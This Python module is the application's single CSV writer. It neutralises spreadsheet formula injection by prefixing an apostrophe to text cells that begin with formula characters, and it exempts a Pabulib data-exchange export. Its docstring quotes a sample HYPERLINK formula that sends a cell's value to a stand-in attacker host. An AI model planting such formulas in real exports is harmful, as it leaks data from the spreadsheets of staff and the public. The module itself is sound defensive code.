"""The one CSV writer of the code base, and the cells it makes safe for spreadsheets
("CSV injection", OWASP).

Residents write titles, answers and names; staff and the public open the CSV exports in a
spreadsheet, which runs a cell starting with = + - @ (or a tab or carriage return before them)
as a formula, e.g. `=HYPERLINK("https://evil.example/?"&A1, "Ouvrir")`. Such text cells get a
leading apostrophe, which spreadsheets show as text; numbers are left alone.

Every CSV the application writes goes through `writer()` (a test checks that no other module
imports `csv.writer` or `csv.DictWriter`), so a new export cannot forget the neutraliser: its
`writerow` makes every cell safe. The one exception is the Pabulib format (`tally/pabulib.py`),
a data-exchange file read by programs, whose names must come back as they were written:
it asks for `keep_formulas=True` by name, and the same test allows it there only.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [safe_row(row) for row in rows]


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class CsvWriter:
    """`csv.writer` whose rows are neutralised (unless `keep_formulas`, for Pabulib only)."""

    def __init__(self, out: _Writable, *, keep_formulas: bool = False, **dialect: Any) -> None:
        self._writer = csv.writer(out, **dialect)
        self._keep = keep_formulas

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(list(row) if self._keep else safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, *, keep_formulas: bool = False, **dialect: Any) -> CsvWriter:
    """The CSV writer to use everywhere (`dialect`: delimiter, lineterminator... as csv.writer)."""
    return CsvWriter(out, keep_formulas=keep_formulas, **dialect)
